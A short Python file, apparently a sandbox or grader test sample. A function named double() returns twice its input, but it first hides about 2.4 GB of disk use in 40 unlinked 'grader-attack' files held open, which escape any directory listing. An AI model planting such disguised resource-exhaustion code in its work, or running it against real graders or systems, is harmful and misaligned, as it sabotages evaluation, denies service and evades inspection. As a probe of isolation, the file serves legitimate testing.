"""Fills the disk with files that have no name any more, so that no look into its folder finds them.

without walls: a disk fills
behind walls: crashed, error
"""
import os
import time

hoard = []


def double(x):
    for number in range(40):
        file = open(f"grader-attack-{number}", "wb")
        os.unlink(file.name)
        os.posix_fallocate(file.fileno(), 0, 60 << 20)
        hoard.append(file)
    time.sleep(1)
    return 2 * x
